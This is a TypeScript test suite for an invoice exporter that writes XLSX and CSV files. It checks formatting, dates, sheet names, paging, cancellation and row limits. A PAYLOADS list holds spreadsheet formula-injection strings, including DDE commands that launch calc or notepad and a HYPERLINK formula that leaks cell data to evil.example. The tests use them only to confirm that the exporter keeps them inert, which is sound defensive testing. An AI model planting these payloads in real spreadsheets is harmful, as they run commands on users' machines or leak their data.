import { expect } from '@open-wc/testing';
import * as XLSX from '@e965/xlsx';
import { InMemoryInvoiceAdapter } from '../../src/data/in-memory-adapter.js';
import { defaultQuery } from '../../src/data/query.js';
import { generateInvoices, seedInvoices } from '../../src/data/sample.js';
import type { Invoice, InvoiceDataAdapter, InvoicePage } from '../../src/data/types.js';
import type { InvoiceAdapterError } from '../../src/data/errors.js';
import { ExportLimitError, exportErrorMessage, exportInvoices, type ExportColumn } from '../../src/export/index.js';

const columns: ExportColumn[] = [
  { id: 'billingMonth', header: 'Month', kind: 'month', value: (i) => i.billingMonth },
  { id: 'amount', header: 'Amount', kind: 'money', value: (i) => i.amount },
  { id: 'invoiceNumber', header: 'Invoice number', kind: 'text', value: (i) => i.invoiceNumber },
  { id: 'customerName', header: 'Customer name', kind: 'text', value: (i) => i.customerName },
  { id: 'status', header: 'Status', kind: 'status', value: (i) => i.status },
  { id: 'dueDate', header: 'Due date', kind: 'date', value: (i) => i.dueDate },
  { id: 'documents', header: 'Documents', kind: 'number', value: (i) => i.documents?.length ?? 0 },
];

const meta = {
  exportedAt: new Date('2026-11-25T09:00:00Z'),
  locale: 'en',
  lastRefreshed: '2026-11-24T21:00:00Z',
  filterDescription: 'Status: Open',
};

async function readWorkbook(blob: Blob): Promise<XLSX.WorkBook> {
  return XLSX.read(new Uint8Array(await blob.arrayBuffer()), { type: 'array', cellFormula: true, cellNF: true, cellDates: false });
}

async function readCsv(blob: Blob): Promise<{ bom: boolean; text: string; lines: string[] }> {
  const bytes = new Uint8Array(await blob.arrayBuffer());
  const bom = bytes[0] === 0xef && bytes[1] === 0xbb && bytes[2] === 0xbf;
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes).replace(/^\ufeff/, '');
  return { bom, text, lines: text.split('\r\n') };
}

/** Every formula and DDE payload the export must keep as text. */
const PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "@cmd|'/C notepad'!'A1'",
  '   =1+1',
  '\u3000=SUM(1)',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
];

function payloadRows(): Invoice[] {
  const base = seedInvoices()[0] as Invoice;
  return PAYLOADS.map((payload, i) => ({ ...base, id: `p${i}`, customerName: payload, invoiceNumber: payload }));
}

describe('exportInvoices (xlsx)', () => {
  it('writes the localised headers, every row, numeric amounts with the currency format and months as dates', async () => {
    const rows: Invoice[] = [
      { ...(seedInvoices()[3] as Invoice), dueDate: '2020-11-30' },
      { ...(generateInvoices(1, { seed: 3 })[0] as Invoice), amount: 1234.5, currency: 'SGD', billingMonth: '2021-02', status: 'disputed' },
    ];
    const result = await exportInvoices({ format: 'xlsx', columns, rows, meta });
    expect(result.rowCount).to.equal(2);
    expect(result.fileName).to.match(/^invoices-\d{4}-\d{2}-\d{2}-\d{4}\.xlsx$/);
    expect(result.blob.type).to.equal('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');

    const book = await readWorkbook(result.blob);
    expect(book.SheetNames).to.deep.equal(['Invoices', 'Export details']);
    const sheet = book.Sheets.Invoices as XLSX.WorkSheet;
    const aoa = XLSX.utils.sheet_to_json<unknown[]>(sheet, { header: 1, raw: true });
    expect(aoa[0]).to.deep.equal(['Month', 'Amount', 'Invoice number', 'Customer name', 'Status', 'Due date', 'Documents']);
    expect(aoa.length).to.equal(3);

    const jpy = sheet.B2 as XLSX.CellObject;
    expect(jpy.t).to.equal('n');
    expect(jpy.v).to.equal(45629);
    expect(jpy.z).to.equal('"JPY" #,##0;-"JPY" #,##0');
    expect(jpy.w).to.equal('JPY 45,629');
    const sgd = sheet.B3 as XLSX.CellObject;
    expect(sgd.v).to.equal(1234.5);
    expect(sgd.z).to.equal('"SGD" #,##0.00;-"SGD" #,##0.00');
    expect(sgd.w).to.equal('SGD 1,234.50');

    const month = sheet.A2 as XLSX.CellObject;
    expect(month.t).to.equal('n');
    expect(month.z).to.equal('mmm yyyy');
    expect(month.w).to.equal('Oct 2020');
    const parsed = XLSX.SSF.parse_date_code(month.v as number);
    expect([parsed.y, parsed.m, parsed.d]).to.deep.equal([2020, 10, 1]);
    expect((sheet.A3 as XLSX.CellObject).w).to.equal('Feb 2021');
    expect((sheet.F2 as XLSX.CellObject).w).to.equal('2020-11-30');

    expect((sheet.C2 as XLSX.CellObject).t).to.equal('s');
    expect((sheet.C2 as XLSX.CellObject).v).to.equal('2202008003470');
    expect((sheet.E2 as XLSX.CellObject).v).to.equal('Open');
    expect((sheet.E3 as XLSX.CellObject).v).to.equal('Disputed');
    expect((sheet.G2 as XLSX.CellObject).v).to.equal(3);
  });

  it('records when, which filter and "Payment status as of" on a second sheet', async () => {
    const result = await exportInvoices({ format: 'xlsx', columns, rows: seedInvoices(), meta });
    const book = await readWorkbook(result.blob);
    const details = XLSX.utils.sheet_to_json<unknown[]>(book.Sheets['Export details'] as XLSX.WorkSheet, { header: 1 });
    const byLabel = new Map(details.slice(1).map((row) => [row[0], row[1]]));
    expect(byLabel.get('Exported at')).to.be.a('string').and.match(/2026/);
    expect(byLabel.get('Filter')).to.equal('Status: Open');
    expect(byLabel.get('Payment status as of')).to.match(/Nov 2[45], 2026/);
    expect(byLabel.get('Rows')).to.equal(5);
  });

  it('keeps every formula payload as text, with a leading apostrophe, and writes no formula', async () => {
    const result = await exportInvoices({
      format: 'xlsx',
      columns,
      rows: payloadRows(),
      meta: { ...meta, filterDescription: '=HYPERLINK("x")' },
    });
    const book = await readWorkbook(result.blob);
    for (const name of book.SheetNames) {
      const sheet = book.Sheets[name] as XLSX.WorkSheet;
      for (const [ref, cell] of Object.entries(sheet)) {
        if (ref.startsWith('!')) continue;
        expect((cell as XLSX.CellObject).f, `${name}!${ref}`).to.equal(undefined);
      }
    }
    const sheet = book.Sheets.Invoices as XLSX.WorkSheet;
    PAYLOADS.forEach((payload, i) => {
      for (const column of ['C', 'D']) {
        const cell = sheet[`${column}${i + 2}`] as XLSX.CellObject;
        expect(cell.t, payload).to.equal('s');
        expect(cell.v, payload).to.equal(`'${payload}`);
      }
    });
    const details = book.Sheets['Export details'] as XLSX.WorkSheet;
    expect((details.B3 as XLSX.CellObject).v).to.equal('\'=HYPERLINK("x")');
  });

  it('makes headers formula-safe too (partners supply their own wording)', async () => {
    const hostile = columns.slice(0, 2).map((c, i) => ({ ...c, header: i === 0 ? '=HYPERLINK("http://evil.example","x")' : '@SUM(A1)' }));
    for (const format of ['xlsx', 'csv'] as const) {
      const result = await exportInvoices({ format, columns: hostile, rows: seedInvoices(), meta });
      const book =
        format === 'xlsx' ? await readWorkbook(result.blob) : XLSX.read((await readCsv(result.blob)).text, { type: 'string', raw: true });
      const sheet = book.Sheets[book.SheetNames[0] as string] as XLSX.WorkSheet;
      expect([(sheet.A1 as XLSX.CellObject).v, (sheet.B1 as XLSX.CellObject).v], format).to.deep.equal([
        '\'=HYPERLINK("http://evil.example","x")',
        "'@SUM(A1)",
      ]);
    }
  });

  it('exports only the given rows (the selection)', async () => {
    const all = generateInvoices(50, { seed: 5 });
    const selection = [all[3], all[17], all[41]] as Invoice[];
    const result = await exportInvoices({ format: 'xlsx', columns, rows: selection, meta });
    const aoa = XLSX.utils.sheet_to_json<unknown[]>((await readWorkbook(result.blob)).Sheets.Invoices as XLSX.WorkSheet, { header: 1 });
    expect(result.rowCount).to.equal(3);
    expect(aoa.slice(1).map((row) => row[2])).to.deep.equal(selection.map((i) => i.invoiceNumber));
  });

  it('keeps malformed values visible as text instead of failing', async () => {
    const bad = { ...(seedInvoices()[0] as Invoice), amount: Number.NaN, billingMonth: '0020-10', status: 'weird' as Invoice['status'] };
    const result = await exportInvoices({ format: 'xlsx', columns, rows: [bad], meta });
    const sheet = (await readWorkbook(result.blob)).Sheets.Invoices as XLSX.WorkSheet;
    expect((sheet.A2 as XLSX.CellObject).v).to.equal('0020-10');
    expect((sheet.A2 as XLSX.CellObject).t).to.equal('s');
    expect((sheet.B2 as XLSX.CellObject).v).to.equal('NaN');
    expect((sheet.E2 as XLSX.CellObject).v).to.equal('weird');
  });

  it('uses month formats and sheet names for other locales', async () => {
    const result = await exportInvoices({
      format: 'xlsx',
      columns,
      rows: seedInvoices(),
      meta: { ...meta, locale: 'ja-JP', sheetName: '請求書', metaSheetName: 'エクスポート情報' },
    });
    const book = await readWorkbook(result.blob);
    expect(book.SheetNames).to.deep.equal(['請求書', 'エクスポート情報']);
    expect(((book.Sheets['請求書'] as XLSX.WorkSheet).A2 as XLSX.CellObject).w).to.equal('2020-05');
  });
});

describe('exportInvoices (xlsx limits and package)', () => {
  it('cuts text longer than a cell can hold, and puts [Content_Types].xml first', async () => {
    const long = { ...(seedInvoices()[0] as Invoice), customerName: 'x'.repeat(40_000) };
    const result = await exportInvoices({ format: 'xlsx', columns, rows: [long], meta });
    const bytes = new Uint8Array(await result.blob.arrayBuffer());
    const firstName = new TextDecoder().decode(bytes.subarray(30, 30 + (bytes[26]! | (bytes[27]! << 8))));
    expect(firstName).to.equal('[Content_Types].xml');
    const sheet = (await readWorkbook(result.blob)).Sheets.Invoices as XLSX.WorkSheet;
    const text = (sheet.D2 as XLSX.CellObject).v as string;
    expect(text.length).to.be.at.most(32_767).and.at.least(32_000);
  });

  it('refuses more rows than a sheet holds, before doing any work', async () => {
    let error: unknown;
    try {
      await exportInvoices({ format: 'xlsx', columns, rows: new Array<Invoice>(1_048_576), meta });
    } catch (e) {
      error = e;
    }
    expect(error).to.be.instanceOf(RangeError);
  });
});

describe('exportInvoices (csv)', () => {
  it('writes UTF-8 with a BOM, CRLF, quoted fields, amounts with their decimals and months as YYYY-MM', async () => {
    const rows: Invoice[] = [
      { ...(seedInvoices()[3] as Invoice), customerName: 'Colt, "Japan"', billingEntityName: 'Colt テクノロジーサービス株式会社' },
      { ...(seedInvoices()[0] as Invoice), amount: 1234.5, currency: 'SGD', customerName: '狮城金融科技有限公司' },
    ];
    const result = await exportInvoices({ format: 'csv', columns, rows, meta });
    expect(result.fileName).to.match(/\.csv$/);
    const { bom, lines } = await readCsv(result.blob);
    expect(bom).to.equal(true);
    expect(lines[0]).to.equal('Month,Amount,Invoice number,Customer name,Status,Due date,Documents');
    // Invoice numbers are marked as text, or a spreadsheet would show 2.20201E+12.
    expect(lines[1]).to.equal(`2020-10,45629,'2202008003470,"Colt, ""Japan""",Open,,3`);
    expect(lines[2]).to.equal(`2020-05,1234.50,'2202008003468,狮城金融科技有限公司,Not applicable,,1`);
    expect(lines.at(-1)).to.equal('');
    expect(lines.length).to.equal(4);
  });

  it('parses back with the same rows, and every payload stayed text', async () => {
    const result = await exportInvoices({ format: 'csv', columns, rows: payloadRows(), meta });
    const text = new TextDecoder().decode(await result.blob.arrayBuffer());
    const book = XLSX.read(text, { type: 'string', raw: true, cellFormula: true });
    const sheet = book.Sheets[book.SheetNames[0] as string] as XLSX.WorkSheet;
    const aoa = XLSX.utils.sheet_to_json<string[]>(sheet, { header: 1, raw: false });
    expect(aoa.length).to.equal(PAYLOADS.length + 1);
    PAYLOADS.forEach((payload, i) => {
      // A tab or CR starts a field for some readers: the formula after it is marked too.
      expect(aoa[i + 1]?.[3], JSON.stringify(payload)).to.equal(`'${payload.replace(/^([\t\r])=/, "$1'=")}`);
      expect((sheet[`D${i + 2}`] as XLSX.CellObject).f).to.equal(undefined);
    });
  });
});

describe('exportInvoices (fetch all from the adapter)', () => {
  const invoices = generateInvoices(2500, { seed: 11 });

  it('fetches every matching row page by page, reporting progress', async () => {
    const adapter = new InMemoryInvoiceAdapter(invoices, { lastRefreshed: '2026-11-24T21:00:00Z' });
    const query = defaultQuery({ statuses: ['open'], sort: [{ field: 'amount', direction: 'desc' }] });
    const expected = await adapter.listInvoices({ ...query, offset: 0, limit: 10_000 });
    const progress: Array<[number, number, string | undefined]> = [];
    const result = await exportInvoices({
      format: 'xlsx',
      columns,
      adapter,
      query,
      pageSize: 300,
      meta: { exportedAt: new Date(), locale: 'en' },
      onProgress: (done, total, phase) => progress.push([done, total, phase]),
    });
    expect(result.rowCount).to.equal(expected.total);
    const fetches = progress.filter((p) => p[2] === 'fetch');
    expect(fetches.length).to.equal(Math.ceil(expected.total / 300));
    expect(fetches.at(-1)).to.deep.equal([expected.total, expected.total, 'fetch']);
    expect(progress.at(-1)).to.deep.equal([expected.total, expected.total, 'write']);
    const book = await readWorkbook(result.blob);
    const aoa = XLSX.utils.sheet_to_json<unknown[]>(book.Sheets.Invoices as XLSX.WorkSheet, { header: 1 });
    expect(aoa.length).to.equal(expected.total + 1);
    expect(aoa.slice(1).map((r) => r[2])).to.deep.equal(expected.rows.map((r) => r.invoiceNumber));
    const details = XLSX.utils.sheet_to_json<unknown[]>(book.Sheets['Export details'] as XLSX.WorkSheet, { header: 1 });
    expect(details[3]?.[1]).to.match(/2026/);
  });

  it('stops when cancelled and rejects with an AbortError', async () => {
    const inner = new InMemoryInvoiceAdapter(invoices);
    const controller = new AbortController();
    let calls = 0;
    const adapter: InvoiceDataAdapter = {
      ...inner,
      countByStatus: inner.countByStatus.bind(inner),
      listDocuments: inner.listDocuments.bind(inner),
      fetchDocument: inner.fetchDocument.bind(inner),
      listInvoices: async (query, options): Promise<InvoicePage> => {
        calls++;
        if (calls === 2) controller.abort();
        return inner.listInvoices(query, options);
      },
    };
    let error: unknown;
    try {
      await exportInvoices({ format: 'csv', columns, adapter, query: defaultQuery(), pageSize: 100, signal: controller.signal, meta });
    } catch (e) {
      error = e;
    }
    expect((error as Error)?.name).to.equal('AbortError');
    expect(calls).to.equal(2);
  });

  it('stops while writing when cancelled', async () => {
    const controller = new AbortController();
    let error: unknown;
    try {
      await exportInvoices({
        format: 'xlsx',
        columns,
        rows: generateInvoices(20_000, { seed: 2 }),
        signal: controller.signal,
        meta,
        onProgress: (done) => {
          if (done > 0) controller.abort();
        },
      });
    } catch (e) {
      error = e;
    }
    expect((error as Error)?.name).to.equal('AbortError');
  });

  it('passes an adapter failure on', async () => {
    const adapter = new InMemoryInvoiceAdapter(invoices);
    adapter.listInvoices = () => Promise.reject(Object.assign(new Error('down'), { code: 'server' }));
    let error: unknown;
    try {
      await exportInvoices({ format: 'xlsx', columns, adapter, query: defaultQuery(), meta });
    } catch (e) {
      error = e;
    }
    expect((error as Error).message).to.equal('down');
  });
});

describe('exportInvoices (spreadsheet rules at the edges)', () => {
  const dateColumns: ExportColumn[] = [{ id: 'dueDate', header: 'Due date', kind: 'date', value: (i) => i.dueDate }];

  it('writes dates as Excel counts them: 1900-01-01 is day 1, Excel’s 1900-02-29 never happens, 1900-03-01 is day 61', async () => {
    const days = ['1900-01-01', '1900-02-28', '1900-03-01', '2024-02-29', '2999-12-31'];
    const rows = days.map((dueDate, i) => ({ ...(seedInvoices()[0] as Invoice), id: `d${i}`, dueDate }));
    const sheet = (await readWorkbook((await exportInvoices({ format: 'xlsx', columns: dateColumns, rows, meta })).blob)).Sheets
      .Invoices as XLSX.WorkSheet;
    const serials = days.map((_, i) => (sheet[`A${i + 2}`] as XLSX.CellObject).v);
    expect(serials).to.deep.equal([1, 59, 61, 45351, 401768]);
    days.forEach((day, i) => expect((sheet[`A${i + 2}`] as XLSX.CellObject).w, day).to.equal(day));
    const csv = await readCsv((await exportInvoices({ format: 'csv', columns: dateColumns, rows, meta })).blob);
    expect(csv.lines.slice(1, -1)).to.deep.equal(days);
  });

  it('keeps dates no spreadsheet date can hold as text: before 1900, years 0000–0099, impossible days', async () => {
    const bad = ['1899-12-31', '0099-12-31', '0020-10-31', '0000-01-01', '2024-02-30', '1900-02-29', '2023-02-29', '2024-13-01'];
    const rows = bad.map((dueDate, i) => ({ ...(seedInvoices()[0] as Invoice), id: `b${i}`, dueDate }));
    const sheet = (await readWorkbook((await exportInvoices({ format: 'xlsx', columns: dateColumns, rows, meta })).blob)).Sheets
      .Invoices as XLSX.WorkSheet;
    bad.forEach((day, i) => {
      const cell = sheet[`A${i + 2}`] as XLSX.CellObject;
      expect([cell.t, cell.v], day).to.deep.equal(['s', day]);
    });
    const csv = await readCsv((await exportInvoices({ format: 'csv', columns: dateColumns, rows, meta })).blob);
    // Text in CSV too, marked so that a spreadsheet does not read it as a date after all.
    expect(csv.lines.slice(1, -1)).to.deep.equal(bad.map((day) => `'${day}`));
  });

  it('names sheets as Excel allows: not History, no lone surrogates, at most 31 UTF-16 units', async () => {
    const cases: Array<[string, string | undefined, string[]]> = [
      ['History', 'history', ['History (1)', 'history (2)']],
      ['Invoices\ud800', 'Details\udc00x', ['Invoices', 'Detailsx']],
      ['😀'.repeat(20), 'Export details', ['😀'.repeat(15), 'Export details']],
      ['a'.repeat(40), 'a'.repeat(40), ['a'.repeat(31), `${'a'.repeat(27)} (2)`]],
      ["''", '[]:*?/\\', ['Invoices', 'Export details']],
    ];
    for (const [sheetName, metaSheetName, expected] of cases) {
      const result = await exportInvoices({ format: 'xlsx', columns, rows: seedInvoices(), meta: { ...meta, sheetName, metaSheetName } });
      const book = await readWorkbook(result.blob);
      expect(book.SheetNames, JSON.stringify(sheetName)).to.deep.equal(expected);
      for (const name of book.SheetNames) {
        expect(name.length, name).to.be.at.most(31);
        expect(name).not.to.match(/\ufffd/);
      }
    }
  });

  it('writes an amount of -0 as 0', async () => {
    const rows = [{ ...(seedInvoices()[0] as Invoice), amount: -0 }];
    const money: ExportColumn[] = [{ id: 'amount', header: 'Amount', kind: 'money', value: (i) => i.amount }];
    const csv = await readCsv((await exportInvoices({ format: 'csv', columns: money, rows, meta })).blob);
    expect(csv.lines[1]).to.equal('0');
    const sheet = (await readWorkbook((await exportInvoices({ format: 'xlsx', columns: money, rows, meta })).blob)).Sheets
      .Invoices as XLSX.WorkSheet;
    expect((sheet.A2 as XLSX.CellObject).w).to.equal('JPY 0');
  });
});

describe('exportInvoices (fetch all, when the adapter’s total cannot be trusted)', () => {
  const seedRows = generateInvoices(2000, { seed: 4 });

  /** An adapter that ignores `offset`: every request answers the first page, claiming `total`. */
  function offsetIgnoring(total: number, pageRows = seedRows): { adapter: InvoiceDataAdapter; calls: () => number } {
    const inner = new InMemoryInvoiceAdapter(pageRows);
    let calls = 0;
    const adapter: InvoiceDataAdapter = {
      countByStatus: inner.countByStatus.bind(inner),
      listDocuments: inner.listDocuments.bind(inner),
      fetchDocument: inner.fetchDocument.bind(inner),
      listInvoices: async (query) => {
        calls++;
        return { rows: pageRows.slice(0, query.limit), total };
      },
    };
    return { adapter, calls: () => calls };
  }

  async function failure(run: () => Promise<unknown>): Promise<unknown> {
    try {
      await run();
    } catch (error) {
      return error;
    }
    throw new Error('the export did not fail');
  }

  for (const format of ['xlsx', 'csv'] as const) {
    it(`${format}: checks the row limit after the first page, before fetching more (2,000,000 claimed)`, async () => {
      const { adapter, calls } = offsetIgnoring(2_000_000);
      const started = performance.now();
      const error = await failure(() => exportInvoices({ format, columns, adapter, query: defaultQuery(), pageSize: 2000, meta }));
      expect(error).to.be.instanceOf(ExportLimitError);
      expect(error).to.be.instanceOf(RangeError);
      expect((error as ExportLimitError).rows).to.equal(2_000_000);
      expect(calls()).to.equal(1);
      expect(performance.now() - started).to.be.below(2000);
      expect(exportErrorMessage(error)).to.equal(
        'This export would hold 2,000,000 rows, more than the 1,048,575 a spreadsheet holds. Narrow the search or the filter, then export again.',
      );
    });
  }

  it('stops when a page repeats the one before (an adapter that ignores offset)', async () => {
    const { adapter, calls } = offsetIgnoring(5000, seedRows.slice(0, 1000));
    const error = await failure(() => exportInvoices({ format: 'csv', columns, adapter, query: defaultQuery(), pageSize: 1000, meta }));
    expect((error as InvoiceAdapterError).code).to.equal('bad-response');
    expect(calls()).to.equal(2);
    expect(exportErrorMessage(error)).to.equal('The billing service sent an answer that could not be read.');
  });

  it('stops at the limit when the total keeps growing, and at a short page when there is no total', async () => {
    let calls = 0;
    const growing: InvoiceDataAdapter = {
      ...offsetIgnoring(0).adapter,
      listInvoices: async (query) => {
        calls++;
        const rows = generateInvoices(query.limit, { seed: query.offset + 1 }).map((row, i) => ({ ...row, id: `g${query.offset + i}` }));
        return { rows, total: query.offset + query.limit * 2 };
      },
    };
    const error = await failure(() =>
      exportInvoices({ format: 'csv', columns, adapter: growing, query: defaultQuery(), pageSize: 500, maxRows: 5000, meta }),
    );
    expect(error).to.be.instanceOf(ExportLimitError);
    expect(calls).to.equal(10);

    const unknownTotal: InvoiceDataAdapter = {
      ...growing,
      listInvoices: async (query) => ({ rows: seedRows.slice(query.offset, query.offset + query.limit), total: 1e308 }),
    };
    const result = await exportInvoices({ format: 'csv', columns, adapter: unknownTotal, query: defaultQuery(), pageSize: 300, meta });
    expect(result.rowCount).to.equal(2000);
  });

  it('keeps timers running while an adapter answers page after page at once', async () => {
    const rows = generateInvoices(20_000, { seed: 9 });
    // Each answer costs a millisecond of work (reading a response), and comes at once.
    const instant: InvoiceDataAdapter = {
      ...offsetIgnoring(0).adapter,
      listInvoices: (query) => {
        const started = performance.now();
        while (performance.now() - started < 1) {
          // busy, as parsing a page is
        }
        return Promise.resolve({ rows: rows.slice(query.offset, query.offset + query.limit), total: rows.length });
      },
    };
    let ticks = 0;
    let ticksWhenFetched = -1;
    const timer = setInterval(() => ticks++, 0);
    try {
      await exportInvoices({
        format: 'csv',
        columns,
        adapter: instant,
        query: defaultQuery(),
        pageSize: 100,
        meta,
        onProgress: (done, total, phase) => {
          if (phase === 'fetch' && done === total) ticksWhenFetched = ticks;
        },
      });
    } finally {
      clearInterval(timer);
    }
    // 200 pages answered at once (200 ms of work): timers fired while they arrived, not only once writing began.
    expect(ticksWhenFetched).to.be.greaterThan(0);
  });
});
